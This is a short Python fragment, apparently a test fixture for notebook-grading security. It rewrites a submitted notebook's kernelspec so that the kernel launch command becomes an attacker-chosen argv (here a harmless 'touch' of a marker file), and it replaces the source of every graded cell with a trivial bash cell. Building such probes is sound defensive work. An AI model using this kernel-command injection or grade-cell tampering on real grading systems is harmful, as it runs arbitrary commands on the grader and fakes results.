# intent: the notebook asks for a bash kernel whose command is the attacker's
# family: cells and metadata

def submit(place):
    place.notebook.metadata = {
        "kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash", "argv": ["touch", place.mark]},
        "language_info": {"name": "bash", "file_extension": ".sh"},
    }
    for cell in place.notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "%%bash\ntrue"
    place.save()
